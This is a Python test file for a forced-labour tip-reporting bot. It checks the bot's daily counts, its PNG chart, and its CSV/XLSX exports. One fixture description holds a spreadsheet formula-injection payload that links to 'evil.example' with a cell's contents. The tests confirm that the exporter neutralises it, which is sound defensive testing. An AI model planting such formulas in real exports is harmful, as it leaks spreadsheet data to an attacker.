"""The digest's chart and the staff exports (CSV, XLSX): counts, images, cells, injection, metadata."""

from __future__ import annotations

import csv
import dataclasses
import io
import struct
import zipfile
from datetime import date, timedelta

import openpyxl
import pytest
from PIL import Image

from bot.digest.charts import OTHER, _series, category_question, render_chart, tips_per_day
from bot.digest.export import export_csv, export_rows, export_xlsx
from bot.flows.catalog import FlowCatalog
from bot.flows.model import Flow, Question, QuestionType
from bot.i18n import gettext_for
from storage.repository import StoredFile, StoredTip

TODAY = date(2026, 11, 27)
FLOWS = FlowCatalog.shipped()
FLOW = FLOWS.active


def tip(
    tip_id: str,
    day: date = TODAY,
    what=("harvest_mobilisation",),
    description: str = "Teachers were sent to the fields",
    urgent: bool = False,
    files: int = 0,
    flow_id: str = "forced-labour",
    version: int = 1,
    **extra,
) -> StoredTip:
    answers = {
        "what": list(what),
        "region": {"country": "UZ", "region": "UZ-AN"},
        "period": {"start": "2026-11-01", "end": "2026-11-05"},
        "description": description,
        "danger_now": "yes" if urgent else "no",
        **extra,
    }
    if files:
        answers["evidence"] = ["image"] * files
    stored = [StoredFile(f"f{n}", "image", "image/jpeg", b"\xff\xd8\xff") for n in range(files)]
    return StoredTip(tip_id.ljust(32, "0"), flow_id, version, answers, day, urgent, stored)


# ---- counting -------------------------------------------------------------------------------------------


def test_the_category_question_is_the_first_multi_or_choice_question():
    assert category_question(FLOW).id == "what"
    texts = {"en": "How many?"}
    plain = Flow("plain", 1, ("en",), texts, (Question("n", QuestionType.NUMBER, texts),))
    assert category_question(plain) is None


def test_tips_per_day_counts_each_tip_once_under_its_first_category():
    tips = [
        tip("a", TODAY, what=["quota", "threats"]),
        tip("b", TODAY, what=["quota"]),
        tip("c", TODAY - timedelta(days=13), what=["wages", "wages"]),
        tip("d", TODAY - timedelta(days=14), what=["quota"]),  # one day too old
        tip("e", TODAY + timedelta(days=1), what=["quota"]),  # not yet
        tip("f", TODAY - timedelta(days=2), flow_id="retired-flow"),
        tip("g", TODAY - timedelta(days=2), what=[]),
    ]
    counts = tips_per_day(tips, FLOWS, TODAY)
    assert list(counts) == [TODAY - timedelta(days=n) for n in range(13, -1, -1)]
    assert counts[TODAY] == {"quota": 2}
    assert counts[TODAY - timedelta(days=13)] == {"wages": 1}
    assert counts[TODAY - timedelta(days=2)] == {OTHER: 2}
    assert sum(sum(day.values()) for day in counts.values()) == 5
    assert len(tips_per_day(tips, FLOWS, TODAY, days=30)) == 30


def test_chart_series_use_the_flow_labels_and_merge_the_rarest_into_other():
    options = [option.id for option in category_question(FLOW).options if option.id != OTHER]
    tips = [tip(f"t{n}_{k}", what=[options[n]]) for n in range(len(options)) for k in range(len(options) - n)]
    series = _series(tips_per_day(tips, FLOWS, TODAY), tips, FLOWS, "uz")
    labels = [label for label, _colour, _heights in series]
    assert len(series) == 10 and labels[0] == "Paxta yoki boshqa terimga yuborishdi" and labels[-1] == "Boshqa"
    assert sum(heights[-1] for _label, _colour, heights in series) == sum(range(1, len(options) + 1))
    assert series[-1][2][-1] == 5 + 4 + 3 + 2 + 1  # the five rarest options, all chosen today


# ---- the chart ------------------------------------------------------------------------------------------


def png_chunks(data: bytes) -> list[bytes]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    chunks, position = [], 8
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        chunks.append(data[position + 4 : position + 8])
        position += 12 + length
    return chunks


def sample_tips() -> list[StoredTip]:
    whats = [["harvest_mobilisation", "quota"], ["child_labour"], ["threats", "wages"], ["other"]]
    return [tip(f"s{n}", TODAY - timedelta(days=n % 14), what=whats[n % 4]) for n in range(40)]


@pytest.mark.parametrize("lang", ["ru", "uz", "kk", "en"])
def test_chart_is_a_plain_png_of_phone_size(lang):
    data = render_chart(sample_tips(), FLOWS, lang, TODAY)
    chunks = png_chunks(data)
    assert chunks[0] == b"IHDR" and chunks[-1] == b"IEND"
    assert not {b"tEXt", b"iTXt", b"zTXt", b"tIME", b"eXIf"} & set(chunks), chunks
    with Image.open(io.BytesIO(data)) as image:
        image.verify()
    with Image.open(io.BytesIO(data)) as image:
        assert image.size == (1200, 700)
        colours = image.convert("RGB").getcolors(maxcolors=1 << 16)
        assert colours is not None and len(colours) > 10  # bars and text, not a blank canvas


def test_chart_is_the_same_for_the_same_input_and_works_without_tips():
    tips = sample_tips()
    assert render_chart(tips, FLOWS, "ru", TODAY) == render_chart(tips, FLOWS, "ru", TODAY)
    with Image.open(io.BytesIO(render_chart([], FLOWS, "ru", TODAY))) as image:
        assert image.size == (1200, 700)


# ---- exports --------------------------------------------------------------------------------------------


def flows_with_a_second_version() -> FlowCatalog:
    texts = {lang: f"Employer ({lang})" for lang in FLOW.languages}
    extra = Question("employer", QuestionType.TEXT, texts, required=False, label=texts)
    return FlowCatalog([FLOW, dataclasses.replace(FLOW, version=2, questions=(*FLOW.questions, extra))])


def export_tips() -> list[StoredTip]:
    return [
        tip(
            "a1b2c3d4e5",
            date(2026, 11, 3),
            what=["quota", "threats"],
            description='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            urgent=True,
            files=2,
            quota_kg=60,
        ),
        tip("f0f0f0f0", date(2026, 11, 4), description="+998 90 123 45 67\nсказали: «норма 60 кг»", version=2),
        tip("0e0e0e0e", date(2026, 11, 5), version=2, employer="@cluster_boss", description="-5 kg, ok"),
        tip("dddddddd", date(2026, 11, 6), flow_id="retired-flow", version=7),
    ]


def test_export_rows_have_a_column_per_question_in_flow_order():
    _ = gettext_for("ru")
    header, rows = export_rows(export_tips(), flows_with_a_second_version(), "ru")
    titles = [FLOW.text(q.label or q.text, "ru") for q in FLOW.questions if q.asks]
    assert "evidence_note" not in header
    assert header == [
        *(_("Report"), _("Date"), _("Urgent"), _("Questionnaire")),
        *titles,
        "Employer (ru)",  # only in version 2
        *("what", "region", "period", "description", "danger_now"),  # a flow no longer known: the raw ids
    ]
    cells = dict(zip(header, rows[0], strict=True))
    assert cells[_("Report")] == "a1b2c3d4" and cells[_("Date")] == "03.11.2026" and cells[_("Urgent")] == _("Yes")
    assert cells[_("Questionnaire")] == "forced-labour v1"
    assert cells["Что произошло"] == "Установили дневную норму (кг); Угрожали или наказали за отказ"
    assert cells["Где"] == "Узбекистан, Андижанская область"
    assert cells["Когда"] == "01.11.2026 – 05.11.2026"
    assert cells["Дневная норма, кг"] == "60" and cells["Файлы"] == "2"
    assert cells["Число людей"] == "" and cells["Employer (ru)"] == ""
    assert cells["Описание"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    second = dict(zip(header, rows[1], strict=True))
    assert second[_("Urgent")] == _("No") and second[_("Questionnaire")] == "forced-labour v2"
    assert second["Описание"] == "'+998 90 123 45 67\nсказали: «норма 60 кг»"
    third = dict(zip(header, rows[2], strict=True))
    assert third["Employer (ru)"] == "'@cluster_boss" and third["Описание"] == "'-5 kg, ok"
    retired = dict(zip(header, rows[3], strict=True))
    assert retired[_("Questionnaire")] == "retired-flow v7" and retired["what"] == "harvest_mobilisation"
    assert retired["region"] == '{"country": "UZ", "region": "UZ-AN"}'


def test_csv_opens_with_a_bom_and_neutralised_formulas():
    tips, flows = export_tips(), flows_with_a_second_version()
    data = export_csv(tips, flows, "ru")
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, rows = export_rows(tips, flows, "ru")
    assert parsed == [header, *rows]
    description = header.index("Описание")
    assert parsed[1][description].startswith("'=HYPERLINK(")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in parsed for cell in row)


def test_xlsx_has_the_same_cells_a_bold_frozen_header_and_no_metadata(monkeypatch):
    import openpyxl.worksheet._writer as sheet_writer

    def no_temporary_files(*args, **kwargs):
        raise AssertionError("the worksheet must not be spooled to disk")

    monkeypatch.setattr(sheet_writer, "create_temporary_file", no_temporary_files)
    tips, flows = export_tips(), flows_with_a_second_version()
    data = export_xlsx(tips, flows, "kk")
    header, rows = export_rows(tips, flows, "kk")

    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    values = [[cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(values_only=True)]
    assert values == [header, *rows]
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)
    assert 8 <= sheet.column_dimensions["A"].width <= 60

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert "creator" not in core and "lastModifiedBy" not in core
        assert "2000-01-01T00:00:00Z" in core and str(date.today().year) not in core
        assert {member.date_time for member in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    assert export_xlsx(tips, flows, "kk") == data


def test_exports_without_tips_have_only_the_header():
    _ = gettext_for("en")
    assert export_csv([], FLOWS, "en").decode("utf-8-sig") == "Report,Date,Urgent,Questionnaire\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx([], FLOWS, "en"))).active
    assert [cell.value for cell in sheet[1]] == [_("Report"), _("Date"), _("Urgent"), _("Questionnaire")]
